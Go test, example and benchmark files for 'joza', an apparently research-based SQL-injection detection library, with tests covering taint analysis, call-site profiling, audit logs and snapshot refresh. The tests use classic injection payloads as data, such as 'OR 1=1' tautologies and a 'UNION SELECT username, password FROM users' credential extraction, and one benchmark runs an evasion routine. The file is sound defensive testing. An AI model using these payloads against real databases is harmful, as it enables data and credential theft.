		_, _ = db.Exec(q) // must not panic
	})
}
