package joza_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"joza"
)

// TestVerdictVersionAttributionUnderConcurrentRefresh hammers
// Guard.CheckContext from many goroutines while Manager.Refresh swaps
// snapshots underneath them, on a Guard carrying the full versioned state
// (fragments, a profile store, a non-default dialect). Run under -race it
// proves two things at once: the hot path is data-race free across swaps,
// and every verdict is attributable to exactly one whole snapshot version
// — one of the two generations' versions, never empty and never a value
// that no complete snapshot ever had (which is what a torn
// fragments-from-A-profiles-from-B read would produce, since the version
// is computed over the whole snapshot at build time).
func TestVerdictVersionAttributionUnderConcurrentRefresh(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "app.php")
	contentA := []byte(refreshSrc)
	contentB := []byte(refreshSrc + "\n" + `$q2 = "SELECT name FROM users WHERE uid=";`)
	if err := os.WriteFile(file, contentA, 0o644); err != nil {
		t.Fatal(err)
	}
	rec := joza.NewProfileRecorderDialect(joza.DialectPostgres)
	rec.Record("app.php:2", "SELECT * FROM records WHERE ID=5 LIMIT 5")
	opts := []joza.Option{
		joza.WithDialect(joza.DialectPostgres),
		joza.WithProfileStore(rec.Store()),
		joza.WithCacheMode(joza.CacheQueryAndStructure, 64),
	}
	m, err := joza.NewManager(dir, nil, opts...)
	if err != nil {
		t.Fatal(err)
	}
	// Learn both generations' versions up front: they differ (the fragment
	// corpus differs) and neither is empty.
	versionA := m.SnapshotVersion()
	if err := os.WriteFile(file, contentB, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Refresh(); err != nil {
		t.Fatal(err)
	}
	versionB := m.SnapshotVersion()
	if versionA == "" || versionB == "" || versionA == versionB {
		t.Fatalf("generation versions = %q, %q; want two distinct non-empty versions", versionA, versionB)
	}

	const (
		workers = 8
		iters   = 250
	)
	ctx := context.Background()
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				id := (seed*37 + i) % 200
				q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", id)
				in := []joza.Input{{Source: "get", Name: "id", Value: fmt.Sprint(id)}}
				v, err := m.Guard().CheckContext(ctx, q, in)
				if err != nil {
					t.Errorf("check: %v", err)
					return
				}
				if v.Attack {
					t.Errorf("benign flagged: %s", q)
					return
				}
				if v.Version != versionA && v.Version != versionB {
					t.Errorf("verdict version %q belongs to no whole snapshot (want %q or %q)",
						v.Version, versionA, versionB)
					return
				}
			}
		}(w)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 40; i++ {
			content := contentA
			if i%2 == 1 {
				content = contentB
			}
			if err := os.WriteFile(file, content, 0o644); err != nil {
				t.Error(err)
				return
			}
			if _, err := m.Refresh(); err != nil {
				t.Errorf("refresh: %v", err)
				return
			}
		}
	}()
	wg.Wait()

	// The manager's own reported version settled on one of the two whole
	// generations too.
	if got := m.SnapshotVersion(); got != versionA && got != versionB {
		t.Fatalf("final SnapshotVersion = %q", got)
	}
}
