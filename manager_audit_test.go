package joza_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"joza"
)

func TestAuditLogRecordsBlockedQueries(t *testing.T) {
	var buf bytes.Buffer
	g, err := joza.New(
		joza.WithFragments([]string{"SELECT * FROM records WHERE ID=", " LIMIT 5"}),
		joza.WithAuditLog(&buf),
	)
	if err != nil {
		t.Fatal(err)
	}
	// Benign: nothing logged.
	g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "5"}})
	if buf.Len() != 0 {
		t.Fatalf("benign query logged: %s", buf.String())
	}
	// Attack: one JSON line.
	payload := "-1 OR 1=1"
	g.Check("SELECT * FROM records WHERE ID="+payload+" LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: payload}})
	line := strings.TrimSpace(buf.String())
	if line == "" {
		t.Fatal("attack not logged")
	}
	var rec joza.AuditRecord
	if err := json.Unmarshal([]byte(line), &rec); err != nil {
		t.Fatalf("audit line not JSON: %v (%s)", err, line)
	}
	if !strings.Contains(rec.Query, payload) {
		t.Errorf("record query = %q", rec.Query)
	}
	if len(rec.DetectedBy) != 2 {
		t.Errorf("detectedBy = %v", rec.DetectedBy)
	}
	if len(rec.Reasons) == 0 {
		t.Error("no reasons logged")
	}
	if rec.Policy != "terminate" {
		t.Errorf("policy = %q", rec.Policy)
	}
	if len(rec.InputKeys) != 1 || rec.InputKeys[0] != "get:id" {
		t.Errorf("inputKeys = %v", rec.InputKeys)
	}
	// Input values must not appear (only keys).
	if strings.Contains(line, `"value"`) {
		t.Error("audit log leaked input values")
	}
	if rec.Time == "" {
		t.Error("missing timestamp")
	}
}

func TestAuditLogConcurrentLines(t *testing.T) {
	var buf safeBuffer
	g, err := joza.New(
		joza.WithFragments([]string{"SELECT * FROM records WHERE ID="}),
		joza.WithAuditLog(&buf),
	)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	for w := 0; w < 4; w++ {
		go func() {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 50; i++ {
				g.Check("SELECT * FROM records WHERE ID=1 OR 1=1", nil)
			}
		}()
	}
	for w := 0; w < 4; w++ {
		<-done
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 200 {
		t.Fatalf("lines = %d, want 200", len(lines))
	}
	for _, l := range lines {
		var rec joza.AuditRecord
		if err := json.Unmarshal([]byte(l), &rec); err != nil {
			t.Fatalf("interleaved write corrupted a line: %v", err)
		}
	}
}

// safeBuffer is a bytes.Buffer whose Write is already serialized by the
// audit logger; the type exists to detect torn writes via JSON validity.
type safeBuffer struct{ bytes.Buffer }

func TestManagerLifecycle(t *testing.T) {
	dir := t.TempDir()
	appFile := filepath.Join(dir, "app.php")
	if err := os.WriteFile(appFile, []byte(`<?php
$q = 'SELECT id, title FROM posts WHERE id=';`), 0o644); err != nil {
		t.Fatal(err)
	}

	m, err := joza.NewManager(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if m.FileCount() != 1 {
		t.Errorf("files = %d", m.FileCount())
	}
	g := m.Guard()
	if g.Check("SELECT id, title FROM posts WHERE id=5", nil).Attack {
		t.Fatal("benign flagged")
	}
	// A query from a not-yet-installed plugin is untrusted.
	pluginQuery := "SELECT id, name FROM gallery WHERE album=2"
	if !m.Guard().Check(pluginQuery, nil).Attack {
		t.Fatal("unknown query should be flagged before plugin install")
	}

	// Install the plugin; Refresh swaps the Guard.
	if err := os.WriteFile(filepath.Join(dir, "gallery.php"), []byte(`<?php
$q = 'SELECT id, name FROM gallery WHERE album=';`), 0o644); err != nil {
		t.Fatal(err)
	}
	swapped, err := m.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if !swapped {
		t.Fatal("Refresh did not swap")
	}
	if m.Guard() == g {
		t.Error("Guard not replaced")
	}
	if m.Guard().Check(pluginQuery, nil).Attack {
		t.Error("plugin query still flagged after refresh")
	}
	// No change → no swap.
	swapped, err = m.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if swapped {
		t.Error("spurious swap")
	}
	// Attacks are still attacks on the new guard.
	if !m.Guard().Check("SELECT id, name FROM gallery WHERE album=2 OR 1=1", nil).Attack {
		t.Error("attack missed after refresh")
	}
}

func TestManagerErrors(t *testing.T) {
	if _, err := joza.NewManager(filepath.Join(t.TempDir(), "missing"), nil); err == nil {
		t.Error("missing dir must error")
	}
	// A directory with no SQL-bearing fragments cannot build a PTI guard.
	empty := t.TempDir()
	if err := os.WriteFile(filepath.Join(empty, "a.php"), []byte(`<?php $x = 'plain words';`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := joza.NewManager(empty, nil); err == nil {
		t.Error("fragment-less dir must error")
	}
	// NTI-only manager over the same dir is fine.
	if _, err := joza.NewManager(empty, nil, joza.WithoutPTI()); err != nil {
		t.Errorf("NTI-only manager: %v", err)
	}
}

func TestManagerCustomExtensions(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.inc"), []byte(`<?php
$q = 'SELECT x FROM t WHERE id=';`), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := joza.NewManager(dir, []string{".inc"})
	if err != nil {
		t.Fatal(err)
	}
	if m.Guard().Check("SELECT x FROM t WHERE id=1", nil).Attack {
		t.Error("benign flagged with custom extension")
	}
}
