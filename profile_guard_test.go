package joza_test

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"joza"
)

// trainProfiles runs a learning-mode guard over the benign traffic of two
// call sites and returns the frozen store.
func trainProfiles(t *testing.T) *joza.ProfileStore {
	t.Helper()
	rec := joza.NewProfileRecorder()
	g := newGuard(t, joza.WithProfileLearning(rec))
	ctx := context.Background()
	benign := map[string][]string{
		"plugin:records": {
			"SELECT * FROM records WHERE ID=5 LIMIT 5",
			"SELECT * FROM records WHERE ID=123 LIMIT 5",
		},
		"plugin:search": {
			"SELECT * FROM records WHERE title='hello' LIMIT 5",
		},
	}
	for site, qs := range benign {
		for _, q := range qs {
			if _, err := g.CheckContextAt(ctx, site, q, nil); err != nil {
				t.Fatalf("learning check: %v", err)
			}
		}
	}
	return rec.Store()
}

func TestProfileLearningThenEnforcement(t *testing.T) {
	st := trainProfiles(t)
	if st.Sites() != 2 {
		t.Fatalf("trained sites = %d, want 2", st.Sites())
	}

	g := newGuard(t, joza.WithProfileStore(st))
	ctx := context.Background()

	// Benign traffic with parameter drift stays clean.
	v, err := g.CheckContextAt(ctx, "plugin:records", "SELECT * FROM records WHERE ID=9999 LIMIT 5", nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Errorf("benign profiled query flagged: %+v", v)
	}

	// A structural change from a profiled site is an attack even when the
	// payload evades NTI (no inputs) and PTI (vocabulary below).
	v, err = g.CheckContextAt(ctx, "plugin:records", "SELECT * FROM records WHERE ID=5 OR 1=1 LIMIT 5", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Profile.Attack {
		t.Fatalf("unseen skeleton not flagged by profile stage: %+v", v)
	}
	if !v.Attack {
		t.Error("hybrid verdict must be attack")
	}
	found := false
	for _, by := range v.DetectedBy() {
		if by == "profile" {
			found = true
		}
	}
	if !found {
		t.Errorf("DetectedBy() = %v, want to include profile", v.DetectedBy())
	}

	// An unprofiled site is lenient by default...
	v, err = g.CheckContextAt(ctx, "plugin:brand-new", "SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Profile.Attack {
		t.Errorf("unknown site flagged without strict mode: %+v", v.Profile)
	}

	// ...and a check without a site skips the stage entirely.
	v = g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	if v.Profile.Attack {
		t.Errorf("siteless check flagged by profile stage: %+v", v.Profile)
	}
}

func TestProfileStrictMode(t *testing.T) {
	st := trainProfiles(t)
	g := newGuard(t, joza.WithProfileStore(st), joza.WithProfileStrict())
	v, err := g.CheckContextAt(context.Background(), "plugin:untrained", "SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Profile.Attack {
		t.Error("strict mode must flag a call site with no training profile")
	}
}

func TestProfileOnlyGuard(t *testing.T) {
	// A guard with both taint analyzers disabled is valid when the profile
	// stage is configured — the ProfileOnly configuration of the detection
	// matrix.
	st := trainProfiles(t)
	g, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(demoSource)),
		joza.WithoutNTI(), joza.WithoutPTI(),
		joza.WithProfileStore(st))
	if err != nil {
		t.Fatal(err)
	}
	v, err := g.CheckContextAt(context.Background(), "plugin:records", "SELECT * FROM records WHERE ID=5 UNION SELECT username, password FROM users LIMIT 5", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Attack || !v.Profile.Attack {
		t.Errorf("profile-only guard missed a skeleton change: %+v", v)
	}
	m := g.Metrics()
	if m.ProfileSites != 2 {
		t.Errorf("Metrics().ProfileSites = %d, want 2", m.ProfileSites)
	}
	if m.ProfileSkeletons == 0 {
		t.Error("Metrics().ProfileSkeletons = 0, want > 0")
	}
}

func TestProfileFileRoundTrip(t *testing.T) {
	st := trainProfiles(t)
	path := filepath.Join(t.TempDir(), "profiles")
	if err := os.WriteFile(path, st.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	g := newGuard(t, joza.WithProfileFile(path))
	v, err := g.CheckContextAt(context.Background(), "plugin:records", "SELECT * FROM records WHERE ID=5 -- x", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Profile.Attack {
		t.Error("file-loaded profiles did not enforce")
	}

	// A bad file fails construction rather than serving half a profile.
	if err := os.WriteFile(path, []byte("corrupt\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(demoSource)), joza.WithProfileFile(path)); err == nil {
		t.Error("New with corrupt profile file succeeded")
	}
}

// TestManagerRefreshCorruptProfileSticky drives the sticky-pending
// contract through the profile path: corrupting the profile file makes the
// next rebuild fail, the manager keeps serving the prior snapshot (old
// profiles still enforcing), and fixing the file heals on a later Refresh
// with no further tree change.
func TestManagerRefreshCorruptProfileSticky(t *testing.T) {
	dir := t.TempDir()
	appFile := filepath.Join(dir, "app.php")
	if err := os.WriteFile(appFile, []byte(demoSource), 0o644); err != nil {
		t.Fatal(err)
	}
	profPath := filepath.Join(t.TempDir(), "profiles")
	st := trainProfiles(t)
	if err := os.WriteFile(profPath, st.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	m, err := joza.NewManager(dir, nil, joza.WithProfileFile(profPath))
	if err != nil {
		t.Fatal(err)
	}
	attack := "SELECT * FROM records WHERE ID=5 OR 1=1 LIMIT 5"
	ctx := context.Background()
	if v, _ := m.Guard().CheckContextAt(ctx, "plugin:records", attack, nil); !v.Profile.Attack {
		t.Fatal("initial manager guard does not enforce profiles")
	}

	// Corrupt the profile file and change the tree so Refresh rebuilds.
	if err := os.WriteFile(profPath, []byte("corrupt\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(appFile, []byte(demoSource+"\n$x = 1;\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	before := m.Guard()
	if _, err := m.Refresh(); err == nil {
		t.Fatal("Refresh with corrupt profile file must fail")
	}
	if m.Guard() != before {
		t.Fatal("failed rebuild swapped the guard")
	}
	if v, _ := m.Guard().CheckContextAt(ctx, "plugin:records", attack, nil); !v.Profile.Attack {
		t.Error("prior snapshot stopped enforcing after failed rebuild")
	}

	// Fix the file: the pending rebuild retries without a tree change.
	if err := os.WriteFile(profPath, st.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	changed, err := m.Refresh()
	if err != nil || !changed {
		t.Fatalf("Refresh after fix = (%v, %v), want (true, nil)", changed, err)
	}
	if v, _ := m.Guard().CheckContextAt(ctx, "plugin:records", attack, nil); !v.Profile.Attack {
		t.Error("refreshed snapshot does not enforce profiles")
	}
}
