package joza_test

import (
	"fmt"

	"joza"
)

// The canonical workflow: extract fragments from the application's source,
// build a guard, check queries with the request's raw inputs.
func Example() {
	fragments := joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`)
	guard, err := joza.New(joza.WithFragments(fragments))
	if err != nil {
		fmt.Println(err)
		return
	}

	benign := guard.Check("SELECT * FROM records WHERE ID=5 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "5"}})
	fmt.Println("benign attack:", benign.Attack)

	attack := guard.Check("SELECT * FROM records WHERE ID=-1 OR 1=1 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "-1 OR 1=1"}})
	fmt.Println("tautology attack:", attack.Attack)
	fmt.Println("detected by:", attack.DetectedBy())
	// Output:
	// benign attack: false
	// tautology attack: true
	// detected by: [NTI PTI]
}

// Authorize integrates with error handling: safe queries return nil, blocked
// queries return an *AttackError carrying the verdict and policy.
func ExampleGuard_Authorize() {
	guard, _ := joza.New(
		joza.WithFragments([]string{"SELECT name FROM users WHERE id="}),
		joza.WithPolicy(joza.PolicyErrorVirtualize),
	)
	err := guard.Authorize("SELECT name FROM users WHERE id=1", nil)
	fmt.Println("benign:", err)

	err = guard.Authorize("SELECT name FROM users WHERE id=1 OR 1=1", nil)
	fmt.Println("attack:", err)
	// Output:
	// benign: <nil>
	// attack: sql injection blocked by PTI (policy error-virtualization)
}

// FragmentsFromSource extracts the trusted string literals the PTI
// component relies on; interpolation points split format strings.
func ExampleFragmentsFromSource() {
	frags := joza.FragmentsFromSource(`<?php
$q = "SELECT * from users where id = $id and password=$password";`)
	for _, f := range frags {
		fmt.Printf("%q\n", f)
	}
	// Output:
	// "SELECT * from users where id = "
	// " and password="
}

// RenderVerdict draws the paper's figure-style taint markings: '-' for
// negative taint, '+' for positive taint, 'c' under critical tokens.
func ExampleRenderVerdict() {
	guard, _ := joza.New(joza.WithFragments([]string{"SELECT * FROM data WHERE ID="}))
	v := guard.Check("SELECT * FROM data WHERE ID=-1 OR 1=1",
		[]joza.Input{{Source: "get", Name: "id", Value: "-1 OR 1=1"}})
	fmt.Print(joza.RenderVerdict(v))
	// Output:
	// SELECT * FROM data WHERE ID=-1 OR 1=1
	// ++++++++++++++++++++++++++++---------
	// cccccc c cccc      ccccc   cc  cc  c
}
