// Benchmarks regenerating every table and figure of the paper's
// evaluation, plus the ablations called out in DESIGN.md. Run with:
//
//	go test -bench=. -benchmem
//
// Table/figure benches measure the cost of the experiment machinery; the
// experiment *results* (the actual table contents) are printed by
// cmd/wpsqlilab and cmd/jozabench and asserted by the package tests.
package joza_test

import (
	"fmt"
	"sync"
	"testing"

	"joza"
	"joza/internal/daemon"
	"joza/internal/evasion"
	"joza/internal/fragments"
	"joza/internal/minidb"
	"joza/internal/nti"
	"joza/internal/pti"
	"joza/internal/sqlparse"
	"joza/internal/sqltoken"
	"joza/internal/strdist"
	"joza/internal/testbed"
	"joza/internal/workload"
)

var (
	labOnce sync.Once
	labInst *testbed.Lab
	labErr  error
)

func benchLab(b *testing.B) *testbed.Lab {
	b.Helper()
	labOnce.Do(func() {
		labInst, labErr = testbed.NewLab()
	})
	if labErr != nil {
		b.Fatal(labErr)
	}
	return labInst
}

var (
	siteOnce sync.Once
	siteInst *workload.Site
	siteErr  error
)

func benchSite(b *testing.B) *workload.Site {
	b.Helper()
	siteOnce.Do(func() {
		siteInst, siteErr = workload.NewSite(300, 7)
		if siteInst != nil {
			// Benchmarks measure analysis cost, not the simulated PHP
			// rendering.
			siteInst.RenderIters = 0
		}
	})
	if siteErr != nil {
		b.Fatal(siteErr)
	}
	return siteInst
}

// ---------------------------------------------------------------------------
// Security evaluation (Tables I–IV, Figure 6).

func BenchmarkTable1Testbed(b *testing.B) {
	for i := 0; i < b.N; i++ {
		counts := testbed.TypeCounts(testbed.Specs())
		if len(counts) != 4 {
			b.Fatal("bad classification")
		}
	}
}

func BenchmarkTable2Baseline(b *testing.B) {
	lab := benchLab(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := lab.EvaluateBaseline(10)
		if err != nil {
			b.Fatal(err)
		}
		if res.PTIDetected != res.Total {
			b.Fatal("unexpected baseline result")
		}
	}
}

func BenchmarkTable4Hybrid(b *testing.B) {
	lab := benchLab(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		outcomes, err := lab.Evaluate()
		if err != nil {
			b.Fatal(err)
		}
		if len(outcomes) != 50 {
			b.Fatal("unexpected outcome count")
		}
	}
}

func BenchmarkFigure6Forms(b *testing.B) {
	lab := benchLab(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := lab.EvaluateFigure6("eventify"); err != nil {
			b.Fatal(err)
		}
	}
}

// ---------------------------------------------------------------------------
// Performance evaluation (Tables V–VII, Figures 7–8).

func BenchmarkTable5CacheConfigs(b *testing.B) {
	site := benchSite(b)
	configs := []struct {
		name    string
		variant workload.PTIVariant
	}{
		{"no-cache", workload.PTIVariant{Cache: pti.CacheNone, Remote: true}},
		{"query-cache", workload.PTIVariant{Cache: pti.CacheQuery, Remote: true}},
		{"query+structure", workload.PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: true}},
		{"extension-estimate", workload.PTIVariant{Cache: pti.CacheQueryAndStructure}},
	}
	for _, kind := range []workload.RequestKind{workload.Read, workload.Write} {
		for _, cfg := range configs {
			b.Run(fmt.Sprintf("%s/%s", kind, cfg.name), func(b *testing.B) {
				prot, stop := workload.NewProtection(cfg.name, site, cfg.variant, true)
				defer stop()
				reqs := site.GenerateRequests(kind, 50)
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					b.StopTimer()
					if err := site.Reset(); err != nil {
						b.Fatal(err)
					}
					b.StartTimer()
					if _, err := workload.RunRequests(site, reqs, prot); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

func BenchmarkTable6WorkloadMix(b *testing.B) {
	site := benchSite(b)
	for _, w := range []float64{0.50, 0.10, 0.05, 0.01} {
		b.Run(fmt.Sprintf("writes=%.0f%%", w*100), func(b *testing.B) {
			prot, stop := workload.NewProtection("joza", site,
				workload.PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: true}, true)
			defer stop()
			reqs := site.GenerateMix(workload.Mix{WriteFraction: w}, 50)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				if err := site.Reset(); err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				if _, err := workload.RunRequests(site, reqs, prot); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkTable7Prediction(b *testing.B) {
	stats := workload.DefaultWordPressStats()
	for i := 0; i < b.N; i++ {
		if stats.PredictOverhead(4.0, 12.0) <= 0 {
			b.Fatal("bad prediction")
		}
	}
}

func BenchmarkFigure7PTIBreakdown(b *testing.B) {
	site := benchSite(b)
	variants := []struct {
		name    string
		variant workload.PTIVariant
	}{
		{"unoptimized", workload.PTIVariant{
			NoParseFirst: true, NoMRU: true, Cache: pti.CacheNone, Remote: true,
		}},
		{"optimized-daemon", workload.PTIVariant{
			Cache: pti.CacheQueryAndStructure, Remote: true,
		}},
	}
	for _, v := range variants {
		b.Run(v.name, func(b *testing.B) {
			prot, stop := workload.NewProtection(v.name, site, v.variant, false)
			defer stop()
			reqs := site.GenerateRequests(workload.Read, 50)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				if err := site.Reset(); err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				if _, err := workload.RunRequests(site, reqs, prot); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkFigure8ReadWriteSearch(b *testing.B) {
	site := benchSite(b)
	for _, kind := range []workload.RequestKind{workload.Read, workload.Write, workload.Search} {
		for _, protected := range []bool{false, true} {
			name := fmt.Sprintf("%s/plain", kind)
			if protected {
				name = fmt.Sprintf("%s/joza", kind)
			}
			b.Run(name, func(b *testing.B) {
				var prot *workload.Protection
				stop := func() {}
				if protected {
					prot, stop = workload.NewProtection("joza", site,
						workload.PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: true}, true)
				}
				defer stop()
				reqs := site.GenerateRequests(kind, 50)
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					b.StopTimer()
					if err := site.Reset(); err != nil {
						b.Fatal(err)
					}
					b.StartTimer()
					if _, err := workload.RunRequests(site, reqs, prot); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

// ---------------------------------------------------------------------------
// Ablations (DESIGN.md Section 5).

const (
	benchQuery = "SELECT id, title, body FROM posts WHERE id=42 ORDER BY id DESC LIMIT 10"
	// benchSafeQuery is fully covered by the bench site's fragments, so
	// PTI-verdict benches exercise the "benign" fast path.
	benchSafeQuery = "SELECT id, title, body FROM posts WHERE id=42"
)

func BenchmarkAblationFragmentMatchers(b *testing.B) {
	site := benchSite(b)
	matchers := map[string]fragments.Matcher{
		"naive-scan":   fragments.NewNaiveMatcher(site.Fragments),
		"aho-corasick": fragments.NewACMatcher(site.Fragments),
	}
	for name, m := range matchers {
		b.Run(name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				m.FindAll(benchQuery)
			}
		})
	}
}

func BenchmarkAblationParseFirst(b *testing.B) {
	site := benchSite(b)
	analyzers := map[string]*pti.Analyzer{
		"parse-first":  pti.New(site.Fragments),
		"full-marking": pti.New(site.Fragments, pti.WithoutParseFirst()),
	}
	toks := sqltoken.Lex(benchSafeQuery)
	for name, a := range analyzers {
		b.Run(name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				if a.Analyze(benchSafeQuery, toks).Attack {
					b.Fatal("benign flagged")
				}
			}
		})
	}
}

func BenchmarkAblationNTIMatchers(b *testing.B) {
	input := "security update notes for the morning release"
	query := "SELECT id, title FROM posts WHERE title LIKE '%" + input + "%' LIMIT 10"
	b.Run("sellers", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			strdist.SubstringMatch(input, query)
		}
	})
	b.Run("naive", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			strdist.NaiveSubstringMatch(input, query)
		}
	})
}

func BenchmarkAblationTransports(b *testing.B) {
	site := benchSite(b)
	analyzer := pti.NewCached(pti.New(site.Fragments), pti.CacheNone, 1)
	b.Run("direct", func(b *testing.B) {
		tr := daemon.NewDirect(analyzer)
		for i := 0; i < b.N; i++ {
			if _, err := tr.Analyze(benchQuery); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("pipe-daemon", func(b *testing.B) {
		tr, stop := daemon.SpawnPipe(analyzer)
		defer stop()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := tr.Analyze(benchQuery); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkAblationCacheModes(b *testing.B) {
	site := benchSite(b)
	for _, mode := range []pti.CacheMode{pti.CacheNone, pti.CacheQuery, pti.CacheQueryAndStructure} {
		b.Run(mode.String(), func(b *testing.B) {
			c := pti.NewCached(pti.New(site.Fragments), mode, 1024)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if c.Analyze(benchSafeQuery, nil).Attack {
					b.Fatal("benign flagged")
				}
			}
		})
	}
}

func BenchmarkAblationThresholdSweep(b *testing.B) {
	inputs := []nti.Input{
		{Source: "get", Name: "id", Value: "42"},
		{Source: "post", Name: "comment", Value: "lorem ipsum dolor amet security notes"},
	}
	for _, th := range []float64{0.05, 0.10, 0.20, 0.30, 0.50} {
		b.Run(fmt.Sprintf("threshold=%.2f", th), func(b *testing.B) {
			a := nti.MustNew(nti.WithThreshold(th))
			for i := 0; i < b.N; i++ {
				a.Analyze(benchQuery, nil, inputs)
			}
		})
	}
}

func BenchmarkAblationTaintless(b *testing.B) {
	lab := benchLab(b)
	tl := evasion.NewTaintless(lab.Fragments)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tl.Evade("-1 UNION SELECT username, password FROM users")
	}
}

// ---------------------------------------------------------------------------
// Core micro-benchmarks.

func BenchmarkGuardCheck(b *testing.B) {
	guard, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`)))
	if err != nil {
		b.Fatal(err)
	}
	inputs := []joza.Input{{Source: "get", Name: "id", Value: "5"}}
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if guard.Check(q, inputs).Attack {
			b.Fatal("benign flagged")
		}
	}
}

// BenchmarkGuardCheckParallel measures the Check hot path under
// concurrency: a cached WordPress-like workload (64 distinct cached
// queries, benign inputs) driven from all procs at once. This is the
// scenario the sharded PTI cache, lazy lexing and pooled matcher rows
// target; the seed's single-mutex cache serialized every goroutine here.
func BenchmarkGuardCheckParallel(b *testing.B) {
	guard, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";
$q2 = "SELECT option_name, option_value FROM wp_options WHERE autoload='yes'";
$q3 = "SELECT * FROM wp_posts WHERE post_status='publish' ORDER BY post_date DESC LIMIT 10";`)))
	if err != nil {
		b.Fatal(err)
	}
	queries := make([]string, 64)
	for i := range queries {
		queries[i] = fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", i)
	}
	inputs := []joza.Input{{Source: "get", Name: "id", Value: "5"}}
	// Warm the query cache so the steady state is the cache-hit path.
	for _, q := range queries {
		guard.Check(q, inputs)
	}
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			q := queries[i&63]
			i++
			if guard.Check(q, inputs).Attack {
				b.Fatal("benign flagged")
			}
		}
	})
	b.StopTimer()
	if guard.Metrics().Checks == 0 {
		b.Fatal("metrics recorded no checks")
	}
}

// BenchmarkGuardCheckParallelPTIOnly isolates the pure cache-hit path: no
// NTI inputs, warm query cache. This is the path the lazy lexing and the
// sharded cache rewrote — the seed lexed every query even on a cache hit
// and serialized all goroutines on one cache mutex; now a hit is a sharded
// map lookup with zero allocations.
func BenchmarkGuardCheckParallelPTIOnly(b *testing.B) {
	guard, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`)))
	if err != nil {
		b.Fatal(err)
	}
	queries := make([]string, 64)
	for i := range queries {
		queries[i] = fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", i)
	}
	for _, q := range queries {
		guard.Check(q, nil)
	}
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
